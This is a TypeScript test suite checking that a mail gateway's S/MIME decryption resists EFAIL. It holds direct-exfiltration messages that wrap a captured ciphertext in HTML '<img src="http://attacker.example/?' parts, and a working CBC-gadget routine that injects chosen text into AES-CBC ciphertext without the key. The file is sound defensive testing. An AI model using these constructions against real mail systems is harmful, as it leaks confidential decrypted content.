// EFAIL (Poddebniak et al., USENIX Security 2018) against inbound decryption: a stranger who captured a ciphertext
// sent to an agency sends it again, either wrapped between parts of their own (direct exfiltration) or with blocks of
// the AES-CBC content changed so that chosen text (an `<img src="http://attacker/?`) lands next to the secret (CBC
// gadgets: EnvelopedData has no integrity). The agency's client then shows the plaintext, HTML included.
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import { type BlobStore, createBlobStore, createFolderKeyStore } from '@smgw/blob-store';
import { type Envelope, newMessageId } from '@smgw/envelope';
import { createTestDatabase, type TestDatabase } from '@smgw/testing';
import { recordMessage } from '@smgw/trace';
import { encryptEnvelope } from '../src/encrypt-envelope.ts';
import {
  createTestPki,
  encryptDeps,
  handlerContext,
  insertAgencyKey,
  opensslEncrypted,
  type TestCertificate,
  type TestPki,
  testEnvelope,
} from './fixtures.ts';

const SECRET = 'Vertraulich: Aktenzeichen 4711-X, Kontostand und Befund des Antragstellers';
const AGENCY = 'stelle@amt.example';
const ENTITY = Buffer.from(`Content-Type: text/plain; charset=utf-8\r\n\r\n${SECRET}\r\n${SECRET}\r\n`);
/** What an attacker can guess of the first block of almost any S/MIME entity. */
const KNOWN_FIRST_BLOCK = ENTITY.subarray(0, 16);
const CHOSEN_BLOCK = Buffer.from('<img src="http:/', 'latin1');

const AES256_CBC_OID = Buffer.from('060960864801650304012a', 'hex');

/** The IV and the AES-256-CBC ciphertext inside a DER EnvelopedData as `openssl cms -encrypt` writes it. */
function cbcContentOf(der: Buffer): { ivStart: number; ciphertextStart: number; ciphertextLength: number } {
  const oid = der.indexOf(AES256_CBC_OID);
  assert.ok(oid > 0 && der[oid + AES256_CBC_OID.length] === 0x04 && der[oid + AES256_CBC_OID.length + 1] === 16);
  const ivStart = oid + AES256_CBC_OID.length + 2;
  let at = ivStart + 16;
  assert.equal(der[at], 0x80, 'encryptedContent [0] primitive');
  at++;
  let length = der[at++] as number;
  if (length & 0x80) {
    const octets = length & 0x7f;
    length = 0;
    for (let i = 0; i < octets; i++) length = length * 256 + (der[at++] as number);
  }
  return { ivStart, ciphertextStart: at, ciphertextLength: length };
}

/**
 * The CBC gadget of the paper, done in place (same length, so the DER stays valid): blocks 1 and 2 become
 * (IV ⊕ P0 ⊕ X, C0), which decrypt to 16 bytes of noise and then X, chosen by whoever knows P0 (here the
 * `Content-Type: te` every text/plain entity starts with), without knowing the key.
 */
function withCbcGadget(message: Buffer, chosen: Buffer): Buffer {
  const blank = /\r?\n\r?\n/.exec(message.toString('latin1'));
  assert.ok(blank);
  const bodyStart = blank.index + blank[0].length;
  const der = Buffer.from(message.subarray(bodyStart).toString('latin1'), 'base64');
  const { ivStart, ciphertextStart, ciphertextLength } = cbcContentOf(der);
  assert.ok(ciphertextLength >= 6 * 16, 'room for the gadget before the last (padding) block');
  const iv = der.subarray(ivStart, ivStart + 16);
  const c0 = Buffer.from(der.subarray(ciphertextStart, ciphertextStart + 16));
  const gadget = Buffer.alloc(16);
  for (let i = 0; i < 16; i++) gadget[i] = (iv[i] as number) ^ (KNOWN_FIRST_BLOCK[i] as number) ^ (chosen[i] as number);
  gadget.copy(der, ciphertextStart + 16);
  c0.copy(der, ciphertextStart + 32);
  const body = (der.toString('base64').match(/.{1,64}/g) ?? []).join('\r\n');
  return Buffer.concat([message.subarray(0, bodyStart), Buffer.from(`${body}\r\n`)]);
}

describe('inbound decryption against EFAIL', () => {
  let db: TestDatabase;
  let pki: TestPki;
  let blobStore: BlobStore;
  let agency: TestCertificate;

  before(async () => {
    [db, pki] = await Promise.all([createTestDatabase(), createTestPki()]);
    blobStore = createBlobStore(db.pool, { keyStore: createFolderKeyStore(db.keys) });
    const ca = await pki.ca('Efail-CA');
    agency = await pki.leaf(ca, AGENCY, { key: 'rsa-2048' });
    await insertAgencyKey(db.pool, AGENCY, { kind: 'smime', certificate: agency });
  });
  after(async () => {
    await pki?.remove();
    await db?.drop();
  });

  /** The captured ciphertext: an honest sender's AES-256-CBC EnvelopedData to the agency (openssl cms). */
  function captured(): Promise<Buffer> {
    return opensslEncrypted(pki, agency, ENTITY, { to: AGENCY, subject: 'Antrag', file: newMessageId() });
  }

  /** A stranger's message to the agency through the MX door: the encrypt stage's one child. */
  async function arrive(message: Buffer): Promise<Envelope> {
    const id = newMessageId();
    const blob = await blobStore.put(Readable.from([message]), { messageId: id });
    const envelope = testEnvelope(blob, 'inbound', { id, mailFrom: 'fremder@extern.example', recipients: [AGENCY] });
    await recordMessage(db.pool, envelope);
    const outcome = await encryptEnvelope(
      encryptDeps(db.pool, blobStore, { internalDomains: ['amt.example'] }),
      envelope,
      handlerContext(),
    );
    assert.equal(outcome.kind, 'next', JSON.stringify(outcome));
    assert.equal(outcome.kind === 'next' ? outcome.envelopes.length : 0, 1);
    return (outcome as { envelopes: Envelope[] }).envelopes[0] as Envelope;
  }
  const text = async (child: Envelope) => (await blobStore.readAll(child.blob.ref)).toString('latin1');

  it('opens an honest AES-CBC message (most S/MIME senders): no sender is refused for the cipher alone', async () => {
    const child = await arrive(await captured());
    assert.equal(child.verdicts.crypto?.status, 'decrypted');
    assert.ok((await text(child)).includes(SECRET));
  });

  it("leaves an encrypted part between a stranger's HTML parts closed (direct exfiltration)", async () => {
    const sent = await captured();
    const inner = sent.subarray(sent.indexOf('Content-Type: application/pkcs7-mime'));
    const wrapped = Buffer.concat([
      Buffer.from(
        'From: fremder@extern.example\r\nTo: stelle@amt.example\r\nSubject: Antrag\r\nMIME-Version: 1.0\r\n' +
          'Content-Type: multipart/mixed; boundary="B"\r\n\r\n' +
          '--B\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/?\r\n' +
          '--B\r\n',
      ),
      inner,
      Buffer.from('\r\n--B\r\nContent-Type: text/html\r\n\r\n">\r\n--B--\r\n'),
    ]);
    const child = await arrive(wrapped);
    assert.equal(child.verdicts.crypto?.status, 'plain');
    assert.ok(!(await text(child)).includes(SECRET), 'the part stays ciphertext: the agency holds no key to open it');
  });

  it('leaves an encrypted message/rfc822 attachment closed', async () => {
    const sent = await captured();
    const attached = Buffer.concat([
      Buffer.from(
        'From: fremder@extern.example\r\nTo: stelle@amt.example\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\n' +
          'Content-Type: multipart/mixed; boundary="B"\r\n\r\n' +
          '--B\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/?\r\n' +
          '--B\r\nContent-Type: message/rfc822\r\n\r\n',
      ),
      sent,
      Buffer.from('\r\n--B--\r\n'),
    ]);
    const child = await arrive(attached);
    assert.equal(child.verdicts.crypto?.status, 'plain');
    assert.ok(!(await text(child)).includes(SECRET));
  });

  it('does not open AES-CBC content a stranger changed to inject text (CBC gadget): it goes on as it came', async () => {
    const tampered = withCbcGadget(await captured(), CHOSEN_BLOCK);
    const child = await arrive(tampered);
    const delivered = await text(child);
    assert.ok(!delivered.includes(CHOSEN_BLOCK.toString('latin1')), 'the chosen block never reaches the agency');
    assert.ok(!delivered.includes(SECRET));
    assert.equal(child.verdicts.crypto?.status, 'not-decrypted');
    assert.match(delivered, /^X-SMGW-Decryption: failed; reason=ENCRYPT_UNAUTHENTICATED_DAMAGED\r\n/);
  });
});
